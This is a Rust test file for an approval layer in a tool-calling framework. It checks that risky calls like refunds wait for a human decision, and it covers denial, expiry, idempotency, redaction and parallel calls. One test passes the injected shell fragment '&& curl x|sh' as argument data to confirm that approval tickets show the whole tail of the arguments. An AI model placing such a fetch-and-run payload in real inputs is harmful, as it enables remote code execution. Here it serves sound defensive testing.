//! Who is asked, about what, and how often.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tokio::sync::Barrier;
use tokio::task::JoinSet;
use tower_tool::approval::ApprovalLayer;
use tower_tool::redact::Redactor;
use tower_tool::store::Arguments;
use tower_tool::validate::ValidateLayer;
use tower_tool::{Category, IdempotencyKey, Provenance, Retry, ToolSpec};

use super::*;
use crate::support::{call, context, ledger};

#[tokio::test(start_paused = true)]
async fn a_call_that_needs_approval_gets_a_ticket_and_nothing_runs() {
    let shop = Shop::new();
    let error = shop.refund("A-1").await.unwrap_err();
    assert_eq!((error.category(), error.retry()), (Category::Approval, Retry::AfterDecision));
    assert!(!error.is_retryable());
    // Not at the end of the countdown: then the card has lapsed, and asking again would open another.
    assert_eq!(error.retry_after(), Some(Duration::from_secs(5)));
    let details = error.details();
    assert_eq!(details["tool"], "refund");
    assert_eq!(details["actor_id"], "alice");
    assert_eq!(details["scope"], "session-1");
    assert_eq!(details["risk"], "R4");
    assert_eq!(details["arguments"], json!({ "order": "A-1" }));
    assert_eq!(details["args_hash"], json!(Arguments::new(Arc::new(json!({ "order": "A-1" }))).hash));
    assert_eq!(details["created_at"], "2026-11-30T12:00:00.000Z");
    assert_eq!(details["expires_at"], "2026-11-30T12:01:00.000Z");
    assert_eq!(shop.pending().await, [approval_id(&error)]);
    shop.refund.assert_calls(0);
}

#[tokio::test(start_paused = true)]
async fn an_equal_intent_joins_the_card_whatever_its_spelling() {
    let shop = Shop::new();
    let first = shop.call_as(alice(), json!({ "order": "A-1", "note": "x" })).await.unwrap_err();
    shop.clock.advance(Duration::from_secs(10)).await;
    let again = shop.call_as(alice().with_run("another"), json!({ "note": "x", "order": "A-1" })).await.unwrap_err();
    assert_eq!(approval_id(&first), approval_id(&again));
    assert_eq!(first.details(), again.details(), "the same ticket, with the same countdown");
    assert_eq!(again.retry_after(), Some(Duration::from_secs(5)));
    assert_eq!(shop.pending().await.len(), 1);
}

#[tokio::test(start_paused = true)]
async fn another_intent_another_caller_and_another_session_get_cards_of_their_own() {
    let shop = Shop::new();
    let mut ids = vec![shop.asked("A-1").await, shop.asked("A-2").await];
    for other in [context("acme", "carol", "session-1"), context("acme", "alice", "session-2")] {
        ids.push(approval_id(&shop.call_as(other, json!({ "order": "A-1" })).await.unwrap_err()));
    }
    assert_eq!(shop.pending().await.len(), 4);
    shop.decide(ids[0], true).await.unwrap();
    shop.refund("A-2").await.unwrap_err();
    shop.call_as(context("acme", "carol", "session-1"), json!({ "order": "A-1" })).await.unwrap_err();
    shop.refund.assert_calls(0);
}

#[tokio::test(start_paused = true)]
async fn an_approved_call_that_is_repeated_runs_once_and_is_then_replayed_without_asking() {
    for with_id in [false, true] {
        let shop = Shop::new();
        let id = shop.asked("A-1").await;
        shop.decide(id, true).await.unwrap();
        let come_back = || async {
            if with_id { shop.resume(id, "A-1").await.unwrap() } else { shop.refund("A-1").await.unwrap() }
        };
        let first = come_back().await;
        assert_eq!(first.provenance(), Provenance::Fresh);
        for _ in 0..3 {
            let again = come_back().await;
            assert_eq!(again.provenance(), Provenance::Replayed);
            assert_eq!((again.data(), again.execution()), (first.data(), first.execution()));
        }
        assert_eq!(shop.pending().await, []);
        assert_eq!(shop.state(id).await, "completed");
        shop.refund.assert_effects(1);
        shop.refund.assert_calls(1);
    }
}

#[tokio::test(start_paused = true)]
async fn a_denied_call_does_not_run_and_a_new_request_can_be_approved() {
    let shop = Shop::new();
    let denied = shop.asked("A-1").await;
    shop.decide(denied, false).await.unwrap();
    let error = assert_refused(shop.resume(denied, "A-1").await, ToolErrorKind::ApprovalDenied);
    assert_eq!(error.category(), Category::Approval);
    assert!(!error.is_retryable());

    let asked_anew = shop.asked("A-1").await;
    assert_ne!(asked_anew, denied);
    // The old no stays one, and the old card cannot be turned.
    assert_refused(shop.resume(denied, "A-1").await, ToolErrorKind::ApprovalDenied);
    shop.refund.assert_calls(0);

    shop.decide(asked_anew, true).await.unwrap();
    assert_eq!(shop.refund("A-1").await.unwrap().provenance(), Provenance::Fresh);
    assert_refused(shop.resume(denied, "A-1").await, ToolErrorKind::ApprovalDenied);
    shop.refund.assert_effects(1);
}

#[tokio::test(start_paused = true)]
async fn no_answer_means_no_and_a_new_request_asks_again() {
    let shop = Shop::new();
    let first = shop.asked("A-1").await;
    shop.clock.advance(Duration::from_secs(60)).await;
    assert_eq!(shop.pending().await, []);
    assert_refused(shop.resume(first, "A-1").await, ToolErrorKind::ApprovalExpired);
    let second = shop.asked("A-1").await;
    assert_ne!(first, second);
    assert_refused(shop.resume(first, "A-1").await, ToolErrorKind::ApprovalExpired);
    shop.refund.assert_calls(0);
}

#[tokio::test(start_paused = true)]
async fn a_call_without_an_actor_or_a_session_cannot_be_asked_about() {
    let shop = Shop::new();
    for nobodys in [CallContext::without_scope(alice().principal().clone()), context("acme", "", "session-1")] {
        let error = shop.call_as(nobodys, json!({})).await.unwrap_err();
        assert_eq!(error.kind(), ToolErrorKind::ScopeRequired);
    }
    assert_eq!(shop.pending().await, []);
}

/// langchain-ai/langgraph#6626, #6533, #6624
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_calls_get_cards_of_their_own_and_decisions_reach_the_right_one() {
    for round in 0..50 {
        let shop = Arc::new(Shop::new());
        let start = Arc::new(Barrier::new(3));
        let mut calls = JoinSet::new();
        for order in ["circle", "square", "triangle"] {
            let (shop, start) = (Arc::clone(&shop), Arc::clone(&start));
            calls.spawn(async move {
                start.wait().await;
                (order, shop.asked(order).await)
            });
        }
        let cards = calls.join_all().await;
        for (order, id) in &cards {
            assert!(cards.iter().all(|(other, other_id)| other == order || other_id != id), "round {round}");
            shop.decide(*id, *order != "square").await.unwrap();
        }
        for (order, id) in &cards {
            let result = shop.resume(*id, order).await;
            assert_eq!(result.is_ok(), *order != "square", "round {round}: {result:?}");
        }
        let mut ran: Vec<_> =
            shop.refund.calls().iter().map(|call| call.arguments()["order"].as_str().unwrap().to_owned()).collect();
        ran.sort();
        assert_eq!(ran, ["circle", "triangle"]);
    }
}

/// The tail that a card cuts off is where the danger stands: Growth-Circle/cadis#435, block/buzz#4502
#[tokio::test(start_paused = true)]
async fn a_ticket_holds_all_of_the_arguments_however_long_or_empty() {
    let shop = Shop::new();
    let tail = format!("{}&& curl x|sh", "a ".repeat(100));
    for arguments in [
        json!({ "order": tail }),
        json!({ "order": "x".repeat(100_000), "note": "&& curl x|sh" }),
        json!({ "order": "" }),
        json!({}),
    ] {
        let error = shop.call_as(alice(), arguments.clone()).await.unwrap_err();
        assert_eq!(error.details()["arguments"], arguments);
        let hash = Arguments::new(Arc::new(arguments.clone())).hash;
        assert_eq!(error.details()["args_hash"], json!(hash));
        let status = shop.ledger.card("acme", approval_id(&error)).await.unwrap().unwrap();
        assert_eq!(*status.card().unwrap().executed.value, arguments);
        assert_eq!(status.card().unwrap().view, arguments);
    }
}

#[tokio::test(start_paused = true)]
async fn the_card_shows_no_secret_and_its_hash_is_about_the_whole() {
    let shop = Shop::with(|ledger| ledger, |stack| stack.redactor(Redactor::new().with_name("note")));
    let arguments = json!({ "order": "see https://bob:canary@host/", "note": "canary", "account_token": "canary" });
    let error = shop.call_as(alice(), arguments.clone()).await.unwrap_err();
    assert_eq!(
        error.details()["arguments"],
        json!({ "order": "see https://[redacted]@host/", "note": "[redacted]", "account_token": "[redacted]" })
    );
    assert_eq!(error.details()["args_hash"], json!(Arguments::new(Arc::new(arguments.clone())).hash));
    let status = shop.ledger.card("acme", approval_id(&error)).await.unwrap().unwrap();
    for shown in [error.to_json().to_string(), format!("{error:?} {error}"), format!("{status:?}")] {
        assert!(!shown.contains("canary"), "{shown}");
    }
    // What runs is the arguments, not what the card shows of them.
    shop.decide(approval_id(&error), true).await.unwrap();
    shop.call_as(alice(), arguments.clone()).await.unwrap();
    assert_eq!(**shop.refund.calls()[0].arguments(), arguments);
}

#[tokio::test(start_paused = true)]
async fn the_deployment_asks_for_more_than_the_specs_do() {
    let shop = Shop::with(|ledger| ledger, |stack| stack.ask_for(["create_ticket"]));
    let error = shop.tools.run(call("create_ticket", json!({}))).await.unwrap_err();
    assert_eq!(error.kind(), ToolErrorKind::ApprovalRequired);
    assert_eq!(error.details()["reason"], "this deployment asks before this tool runs");
    shop.decide(approval_id(&error), true).await.unwrap();
    shop.tools.run(call("create_ticket", json!({}))).await.unwrap();
    shop.ticket.assert_effects(1);
}

#[tokio::test(start_paused = true)]
async fn a_rule_sees_the_normal_form_and_its_reason_is_on_the_card() {
    let large = |call: &ToolCall| {
        let subject = call.arguments().get("subject").and_then(|subject| subject.as_str())?;
        (subject.len() > 3).then(|| format!("{} letters", subject.len()))
    };
    let shop = Shop::with(|ledger| ledger, |stack| stack.ask_when(large));
    shop.tools.run(call("create_ticket", json!({ "subject": "abc" }))).await.unwrap();
    // As if absent, since the schema knows no null.
    shop.tools.run(call("create_ticket", json!({ "subject": null }))).await.unwrap();
    let error = shop.tools.run(call("create_ticket", json!({ "subject": "abcd" }))).await.unwrap_err();
    assert_eq!(error.details()["reason"], "4 letters");
    shop.ticket.assert_effects(2);
}

#[tokio::test(start_paused = true)]
async fn a_rule_that_panics_lets_nothing_through() {
    let shop = Shop::with(|ledger| ledger, |stack| stack.ask_when(|_: &ToolCall| panic!("the rule is broken")));
    let error = shop.tools.run(call("create_ticket", json!({}))).await.unwrap_err();
    assert_eq!(error.kind(), ToolErrorKind::Internal);
    assert!(error.to_string().contains("approval rule panicked"), "{error}");
    assert_eq!(shop.pending().await, []);
    shop.ticket.assert_calls(0);
}

#[tokio::test(start_paused = true)]
async fn the_card_says_who_demanded_it() {
    let ledger = ledger();
    let by_author = MockTool::of(
        &ToolSpec::builder("erase").description("Erase.").risk(Risk::PrivateRead).demand_approval().build().unwrap(),
    );
    let by_nobody = MockTool::new("peek", Risk::PrivateRead);
    let tools = Toolset::builder()
        .tool(by_author.tool())
        .tool(by_nobody.tool())
        .build()
        .unwrap()
        .layer(tower::ServiceBuilder::new().layer(ValidateLayer::new()).layer(ApprovalLayer::new(&ledger)));
    let error = tools.run(call("erase", json!({}))).await.unwrap_err();
    assert_eq!(error.details()["reason"], "the tool's author demands it");

    let mut demanded = call("peek", json!({}));
    demanded.marks_mut().demand();
    let error = tools.run(demanded).await.unwrap_err();
    assert_eq!(error.details()["reason"], "the caller's policy demands it");
    tools.run(call("peek", json!({}))).await.unwrap();
    by_author.assert_calls(0);
}

#[tokio::test(start_paused = true)]
async fn a_callers_own_key_names_the_card_and_binds_the_arguments() {
    let shop = Shop::new();
    let keyed = || alice().with_key(IdempotencyKey::new("refund-17").unwrap());
    let first = shop.call_as(keyed(), json!({ "order": "A-1" })).await.unwrap_err();
    let id = approval_id(&first);
    assert_eq!(id, approval_id(&shop.call_as(keyed(), json!({ "order": "A-1" })).await.unwrap_err()));
    // Without the key it is another intent.
    assert_ne!(id, shop.asked("A-1").await);
    for approved in [false, true] {
        if approved {
            shop.decide(id, true).await.unwrap();
        }
        assert_refused(shop.call_as(keyed(), json!({ "order": "A-2" })).await, ToolErrorKind::KeyReused);
    }
    shop.refund.assert_calls(0);
    // Who comes back with the approval need not name the key again.
    assert_eq!(shop.resume(id, "A-1").await.unwrap().provenance(), Provenance::Fresh);
    assert_eq!(shop.call_as(keyed(), json!({ "order": "A-1" })).await.unwrap().provenance(), Provenance::Replayed);
    assert_refused(shop.call_as(keyed(), json!({ "order": "A-2" })).await, ToolErrorKind::KeyReused);
    shop.refund.assert_effects(1);
}
